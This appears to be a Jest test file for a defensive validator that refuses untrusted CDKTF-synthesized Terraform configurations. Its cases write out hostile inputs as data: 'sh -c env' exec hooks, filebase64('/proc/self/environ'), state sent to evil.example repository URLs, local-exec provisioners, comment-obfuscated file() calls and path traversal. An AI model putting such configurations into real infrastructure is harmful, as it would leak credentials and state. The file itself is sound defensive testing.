import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { configurationProblems } from '../../src/trust/configuration-problems';
import { refuseUntrusted } from '../../src/trust/refuse-untrusted';
import { AContext } from '../support/a-context';
import { synthesized } from '../support/synthesized';

jest.setTimeout(60_000);

const exec = (command: string, ...args: readonly string[]) => ({ exec: [{ command, args }] });

describe('configurationProblems', () => {
  it.each<[string, object, string]>([
    ['a program as data', { data: { external: { x: { program: ['sh'] } } } }, 'external is of another provider'],
    [
      'a provider of somebody',
      { terraform: { required_providers: { aws: { source: 'mallory/aws', version: '1.0.0' } } } },
      'provider mallory/aws is not one of',
    ],
    [
      'a provider of another registry',
      { terraform: { required_providers: { aws: { source: 'evil.example/hashicorp/aws', version: '1.0.0' } } } },
      'provider evil.example/hashicorp/aws is not',
    ],
    [
      'any version of a provider',
      { terraform: { required_providers: { aws: { source: 'aws', version: '~> 6.0' } } } },
      'provider aws has no exact version',
    ],
    ['a module', { module: { x: { source: 'git::https://evil.example' } } }, 'it has a block module'],
    ['a check with data', { check: {} }, 'it has a block check'],
    ['a cloud backend', { terraform: { cloud: {} } }, 'its terraform block has cloud'],
    [
      'a state elsewhere',
      { terraform: { backend: { http: { address: 'https://evil.example' } } } },
      'its state is in a backend of type http',
    ],
    [
      'a profile for a state',
      { terraform: { backend: { s3: { bucket: 'b', profile: 'p' } } } },
      'its state has profile',
    ],
    [
      'a remote state elsewhere',
      { data: { terraform_remote_state: { x: { backend: 'http', config: {} } } } },
      'a remote state is in a backend of type http',
    ],
    [
      'an address for AWS',
      { provider: { aws: [{ region: 'eu-west-1', endpoints: [] }] } },
      'provider aws has endpoints',
    ],
    [
      'a credential process',
      { provider: { aws: { shared_config_files: ['assets/x'] } } },
      'provider aws has shared_config_files',
    ],
    [
      'a program for a token',
      { provider: { kubernetes: [exec('sh', '-c', 'env')] } },
      'provider kubernetes runs "sh -c env"',
    ],
    [
      'aws for something else',
      { provider: { helm: [{ kubernetes: exec('aws', 's3', 'cp') }] } },
      'provider helm runs "aws s3 cp"',
    ],
    [
      'more than a token of aws',
      {
        provider: { helm: [{ kubernetes: exec('aws', 'eks', 'get-token', '--endpoint-url', 'https://evil.example') }] },
      },
      'provider helm runs "aws eks get-token --endpoint',
    ],
    [
      'variables for aws',
      {
        provider: {
          kubernetes: [
            { exec: [{ command: 'aws', args: ['eks', 'get-token'], env: { AWS_CONFIG_FILE: 'assets/x' } }] },
          ],
        },
      },
      'provider kubernetes has env for its program',
    ],
    [
      'a kubeconfig, which names a program',
      { provider: { kubernetes: [{ config_path: 'assets/x' }] } },
      'provider kubernetes has config_path',
    ],
    [
      'a kubeconfig of helm',
      { provider: { helm: [{ kubernetes: { config_path: 'assets/x' } }] } },
      'provider helm has config_path',
    ],
    ['plugins of helm', { provider: { helm: [{ plugins_path: 'assets/x' }] } }, 'provider helm has plugins_path'],
    [
      'a cluster of somebody, who would get the token',
      { provider: { kubernetes: [{ host: 'https://evil.example' }] } },
      "provider kubernetes has a host that is not another stack's output",
    ],
    [
      'another name for aws, with its arguments',
      { terraform: { required_providers: { kubernetes: { source: 'aws', version: '1.0.0' } } } },
      'provider aws goes by the name kubernetes',
    ],
    [
      'a provider without a rule',
      { provider: { other: [{ shared_config_files: ['assets/x'] }] } },
      'provider other is configured',
    ],
    ['a file behind a comment', { locals: { a: '${file/**/("x")}' } }, 'it calls file()'],
    ['a file behind a comment to the end of its line', { locals: { a: '${file # x\n("x")}' } }, 'it calls file()'],
    [
      'a program for templates of charts',
      { data: { helm_template: { x: { postrender: { binary_path: 'x' } } } } },
      'a resource has a block postrender',
    ],
    [
      'a file of the machine',
      { resource: { aws_vpc: { x: { tags: { a: '${filebase64("/proc/self/environ")}' } } } } },
      'it calls filebase64()',
    ],
    ['a file in a condition', { locals: { a: '%{ if templatefile ("x", {}) }%{ endif }' } }, 'it calls templatefile()'],
    [
      'a provisioner',
      { resource: { terraform_data: { x: { provisioner: [{ 'local-exec': {} }] } } } },
      'a resource has a block provisioner',
    ],
    [
      'an address that carries a state away',
      { resource: { helm_release: { x: { repository: 'https://evil.example/${local.a}', chart: 'x' } } } },
      'a chart has a computed repository',
    ],
    [
      'a file for the host of a chart',
      { resource: { helm_release: { x: { repository_cert_file: '/x', chart: 'x' } } } },
      'a chart has repository_cert_file',
    ],
    [
      'a program for what goes',
      { removed: [{ from: 'terraform_data.x', provisioner: [{ 'local-exec': {} }] }] },
      'a resource has a block provisioner',
    ],
    [
      'a program for charts',
      { resource: { helm_release: { x: { postrender: { binary_path: 'x' } } } } },
      'a resource has a block postrender',
    ],
  ])('refuses %s', (_what, json, problem) => {
    expect(configurationProblems(json)).toEqual([expect.stringContaining(problem)]);
  });

  it.each(['dev-eu-west-1', 'prod-eu-west-1'])('has nothing against what %s synthesizes to', (name) => {
    const folder = join(__dirname, '..', '..', '..', '..', 'apps', name);
    const { app } = JSON.parse(readFileSync(join(folder, 'cdktf.json'), 'utf8')) as { readonly app: string };
    const CDKTF_OUTDIR = mkdtempSync(join(tmpdir(), 'trusted-'));
    execFileSync(app, { cwd: folder, shell: true, stdio: 'pipe', env: { ...process.env, CDKTF_OUTDIR } });
    expect(() => refuseUntrusted(CDKTF_OUTDIR)).not.toThrow();
    rmSync(CDKTF_OUTDIR, { recursive: true });
  });
});

describe('refuseUntrusted', () => {
  it('names every problem of every stack, and files that Terraform would read too', () => {
    const context = new AContext();
    const more = { data: { http: { x: { url: 'https://evil.example' } } } };
    const dir = synthesized(
      context,
      'dev',
      [
        { name: 'one', data: {}, more },
        { name: 'two', data: {} },
      ],
      () => ({}),
    );
    context.write(`${dir}/stacks/two/more.tf`, 'data "external" "x" {}');
    expect(() => refuseUntrusted(join(context.cwd, dir))).toThrow(
      /^This does not run beside credentials:\n {2}one: http is of another provider\n {2}two: beside cdk\.tf\.json and assets there is more\.tf\n$/,
    );
    context.write(
      `${dir}/manifest.json`,
      context.read(`${dir}/manifest.json`).replaceAll('stacks/two', 'stacks/../../../tool'),
    );
    expect(() => refuseUntrusted(join(context.cwd, dir))).toThrow('two: it is not in stacks/two/cdk.tf.json');
    context.remove();
  });

  it('refuses JSON of which Terraform would read more than was judged: a key twice', () => {
    const context = new AContext();
    const dir = synthesized(context, 'dev', [{ name: 'one', data: {} }], () => ({}));
    const file = `${dir}/stacks/one/cdk.tf.json`;
    expect(() => refuseUntrusted(join(context.cwd, dir))).not.toThrow();
    context.write(
      file,
      context.read(file).replace('{', '{"data": {"external": {"x": {"program": ["sh"]}}}, "data": {},'),
    );
    expect(() => refuseUntrusted(join(context.cwd, dir))).toThrow(
      'one: its cdk.tf.json is not what JSON.stringify writes',
    );
    context.remove();
  });
});
